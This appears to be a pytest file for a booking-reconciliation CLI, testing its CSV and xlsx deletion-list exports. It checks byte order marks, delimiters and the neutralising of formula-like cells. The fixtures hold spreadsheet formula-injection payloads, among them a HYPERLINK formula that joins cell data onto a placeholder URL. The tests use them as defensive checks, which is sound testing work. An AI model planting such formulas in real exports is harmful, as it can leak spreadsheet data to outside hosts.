"""``plan --format csv|xlsx``: the deletion list for a spreadsheet, never a live formula.

A CSV written to a file starts with the UTF-8 byte order mark (Excel then
reads the accents right), standard output gets none; ``--delimiter ';'``
serves the spreadsheets of comma-decimal locales. ``--format xlsx`` writes a
workbook to ``--output`` only: the deletions in order with a column to tick
off, the next numbers on a second sheet, every cell a typed value.
"""

from __future__ import annotations

import csv
import datetime as dt
import importlib
import io
import json
from pathlib import Path
from typing import Any

import pytest

from booking_reconcile import Booking, Integration, Invoice, Journal, Snapshot
from booking_reconcile.cli import main
from booking_reconcile.formats.spreadsheet import (
    DELETIONS_SHEET,
    NEXT_NUMBERS_SHEET,
    TICK_COLUMN,
)
from builders import day
from messages import one_error

ROOT = Path(__file__).resolve().parent.parent
TWO = ROOT / "examples" / "two-collisions" / "snapshot.json"

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"open")'
#: Journal codes a spreadsheet would run as formulas (OWASP's list of formula starts).
FORMULAS = [HYPERLINK, "+1+1", "-1+1", "@SUM(1)"]


def _hostile(folder: Path, journal: str = "+1+1") -> str:
    """A snapshot whose invoice journal, and a document number, a spreadsheet would run."""
    documents = [
        Invoice("B", day(1, 6), 1002),
        Invoice("C", day(1, 10), 1002),
        Invoice(HYPERLINK, day(1, 12), 1003),
    ]
    bookings = [Booking(journal, d.booking_number or 0, d.date, d.ref) for d in documents[1:]]
    snapshot = Snapshot(
        Integration(journal, "@credit"),
        documents,
        [Journal(journal, next_booking_number=1004), Journal("@credit")],
        bookings,
    )
    path = folder / "hostile.json"
    path.write_text(json.dumps(snapshot.to_dict()), encoding="utf-8")
    return str(path)


# -- CSV ------------------------------------------------------------------------


def test_csv_to_standard_output_has_no_byte_order_mark(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(["plan", str(TWO), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("journal,financial_year,booking_number,document,date,step\n")


def test_csv_written_to_a_file_starts_with_a_byte_order_mark(tmp_path: Path) -> None:
    target = tmp_path / "deletions.csv"
    assert main(["plan", str(TWO), "--format", "csv", "--output", str(target)]) == 0
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfjournal,financial_year,")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert [row[2] for row in rows[1:]] == ["1004", "1003", "1002"]


def test_delimiter_semicolon_serves_comma_decimal_spreadsheets(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(["plan", str(TWO), "--format", "csv", "--delimiter", ";"]) == 0
    out = capsys.readouterr().out
    assert out.splitlines()[:2] == [
        "journal;financial_year;booking_number;document;date;step",
        "70;;1004;invoice 2026/6;2026-01-15;delete-bookings",
    ]


@pytest.mark.parametrize("journal", FORMULAS, ids=["equals", "plus", "minus", "at"])
def test_the_commands_csv_neutralises_every_cell_that_starts_like_a_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], journal: str
) -> None:
    assert main(["plan", _hostile(tmp_path, journal), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert [(row[0], row[3]) for row in rows[1:]] == [
        (f"'{journal}", f"invoice {HYPERLINK}"),  # "invoice ..." starts with no formula sign
        (f"'{journal}", "invoice C"),
    ]


@pytest.mark.parametrize("output_format", ["text", "markdown", "json", "xlsx"])
def test_a_delimiter_is_refused_with_any_format_but_csv(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], output_format: str
) -> None:
    argv = ["plan", str(TWO), "--format", output_format, "--delimiter", ";"]
    assert main([*argv, "--output", str(tmp_path / "out")]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert one_error(err) == (
        f"booking-reconcile: error: --delimiter ;: separates the cells of --format csv only, "
        f"not of {output_format}: leave it out, or add --format csv"
    )
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("delimiter", [";;", '"', "a", "7", ""])
def test_a_delimiter_that_cannot_separate_cells_is_a_usage_error(
    capsys: pytest.CaptureFixture[str], delimiter: str
) -> None:
    with pytest.raises(SystemExit) as raised:
        main(["plan", str(TWO), "--format", "csv", "--delimiter", delimiter])
    assert raised.value.code == 2
    assert "argument --delimiter: the delimiter is one character" in one_error(
        capsys.readouterr().err
    )


def test_check_and_confirm_take_no_delimiter(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as raised:
        main(["check", str(TWO), "--delimiter", ";"])
    assert raised.value.code == 2
    assert "unrecognized arguments: --delimiter" in one_error(capsys.readouterr().err)


# -- xlsx -----------------------------------------------------------------------


def _workbook(path: Path) -> Any:
    openpyxl = pytest.importorskip("openpyxl")
    return openpyxl.load_workbook(path)


def test_xlsx_lists_the_deletions_in_order_and_the_next_numbers_typed(tmp_path: Path) -> None:
    target = tmp_path / "deletions.xlsx"
    assert main(["plan", str(TWO), "--format", "xlsx", "--output", str(target)]) == 0
    workbook = _workbook(target)
    assert workbook.sheetnames == [DELETIONS_SHEET, NEXT_NUMBERS_SHEET]
    rows = list(workbook[DELETIONS_SHEET].iter_rows())
    assert [cell.value for cell in rows[0]] == [
        "order",
        "journal",
        "financial year",
        "booking number",
        "document",
        "date",
        TICK_COLUMN,
        "step",
    ]
    step = "delete-bookings"
    assert [[cell.value for cell in row] for row in rows[1:]] == [
        [1, "70", None, 1004, "invoice 2026/6", dt.datetime(2026, 1, 15), None, step],
        [2, "70", None, 1003, "invoice 2026/5", dt.datetime(2026, 1, 12), None, step],
        [3, "70", None, 1002, "invoice 2026/4", dt.datetime(2026, 1, 10), None, step],
    ]
    typed = [cell.data_type for cell in rows[1] if cell.value is not None]
    assert typed == ["n", "s", "n", "s", "d", "s"]
    numbers = [[cell.value for cell in row] for row in workbook[NEXT_NUMBERS_SHEET].iter_rows()]
    assert numbers[0][:3] == ["journal", "financial year", "next"]
    assert [row[:3] for row in numbers[1:]] == [["70", None, 1004]]


@pytest.mark.parametrize("journal", FORMULAS, ids=["equals", "plus", "minus", "at"])
def test_no_cell_of_the_commands_workbook_is_a_formula(tmp_path: Path, journal: str) -> None:
    target = tmp_path / "deletions.xlsx"
    argv = ["plan", _hostile(tmp_path, journal), "--format", "xlsx", "--output", str(target)]
    assert main(argv) == 0
    workbook = _workbook(target)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    deletions = [[cell.value for cell in row] for row in workbook[DELETIONS_SHEET].iter_rows()]
    assert [row[1] for row in deletions[1:]] == [journal, journal]  # text, as written
    assert [row[4] for row in deletions[1:]] == [f"invoice {HYPERLINK}", "invoice C"]
    numbers = list(workbook[NEXT_NUMBERS_SHEET].iter_rows(min_row=2))
    assert [(cell.value, cell.data_type) for cell in numbers[0][:1]] == [(journal, "s")]


def test_xlsx_without_output_is_refused_before_anything_is_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["plan", str(tmp_path / "missing.csv"), "--format", "xlsx"]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert one_error(err) == (
        "booking-reconcile: error: --format xlsx: writes a binary workbook, which a terminal "
        "cannot show: add --output FILE.xlsx"
    )


def test_xlsx_without_openpyxl_says_how_to_install_it_before_reading(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    real = importlib.import_module

    def without_openpyxl(name: str, *args: Any) -> Any:
        if name == "openpyxl":
            raise ImportError(name)
        return real(name, *args)

    monkeypatch.setattr(importlib, "import_module", without_openpyxl)
    target = tmp_path / "deletions.xlsx"
    argv = ["plan", str(tmp_path / "missing.csv"), "--format", "xlsx", "--output", str(target)]
    assert main(argv) == 2
    err = one_error(capsys.readouterr().err)
    assert err.startswith("booking-reconcile: error: --format xlsx: writing an Excel workbook")
    assert "pip install 'booking_reconcile[excel]'" in err
    assert not target.exists()
